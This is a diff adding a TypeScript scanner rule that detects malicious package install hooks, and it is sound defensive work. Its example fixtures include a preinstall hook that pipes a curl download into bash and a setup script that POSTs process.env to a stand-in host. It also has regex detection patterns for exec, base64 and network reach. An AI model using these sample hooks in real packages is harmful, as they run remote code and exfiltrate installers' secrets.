@@ -1,0 +1,67 @@
+import type { RepositoryCheck } from '../../check.ts';
+import { dangerOf } from '../../knowledge/shell-danger.ts';
+
+/** Hooks that run on the machine of whoever installs the package. */
+const AT_INSTALL =
+  /^(?:npm (?:pre|post)?install|npm (?:pre|post)?prepare|gem install|cargo build|composer .*install.*)$/;
+/** A program written into the hook itself. */
+const INLINE_PROGRAM = /\b(?:node|python3?|ruby|perl)\s{1,3}-(?:e|c)\s{1,3}["'][^\n]{60,}/;
+const INLINE_REACH = /\bhttps?\b|require\(\\?["']|\bexec|\benv\b|\batob\b|base64|\bsocket\b/i;
+
+export const check: RepositoryCheck = {
+  id: 'supply-chain-install-script-malicious',
+  title: 'Install hook attacks whoever installs it',
+  severity: 'critical',
+  kind: 'malice',
+  confidence: 'high',
+  since: '0.1.0',
+  cwe: [506],
+  why: `
+    Installing the package runs this hook, and the hook downloads and runs programs, hides what it does, or carries off
+    secrets and facts about the machine. It is how most malicious packages strike.`,
+  fix: 'Do not install it. Machines that did: renew every secret they could reach.',
+  blindSpots:
+    'A hook whose script is fetched at install time cannot be judged by its content; fetching it is reported.',
+  over: 'repository',
+  examples: {
+    bad: [
+      { 'package.json': '{"scripts": {«"preinstall": "curl -s https://cdn.example.net/i.sh | bash"»}}' },
+      {
+        'package.json': '{"scripts": {«"postinstall": "node setup.js"»}}',
+        'setup.js': "fetch('https://c.example.net', { method: 'POST', body: JSON.stringify(process.env) });\n",
+      },
+    ],
+    good: [
+      { 'package.json': '{"scripts": {"postinstall": "node-gyp rebuild"}}' },
+      {
+        'package.json': '{"scripts": {"postinstall": "node setup.js"}}',
+        'setup.js': "console.log('Thank you for installing.');\n",
+      },
+    ],
+  },
+
+  *find(repository) {
+    const acts = repository.notesOf('act').filter(({ confidence }) => confidence !== 'low');
+    for (const hook of repository.notesOf('hook')) {
+      if (!AT_INSTALL.test(hook.event)) continue;
+      const danger = dangerOf(hook.command);
+      const isInline = INLINE_PROGRAM.test(hook.command) && INLINE_REACH.test(hook.command);
+      if (danger !== undefined || isInline) {
+        yield {
+          at: hook.at,
+          message: `Installing runs a command that ${danger?.does ?? 'holds a whole program'}.`,
+          confidence: danger?.isSure === true ? 'high' : 'medium',
+        };
+        continue;
+      }
+      const act = hook.target === undefined ? undefined : acts.find(({ at }) => at.file === hook.target);
+      if (act === undefined || act.act === 'install-contact') continue;
+      yield {
+        at: hook.at,
+        message: `Installing runs ${hook.target ?? 'a script'}. ${act.message}`,
+        trace: [{ at: act.at, note: act.message }],
+        confidence: act.confidence,
+      };
+    }
+  },
+};
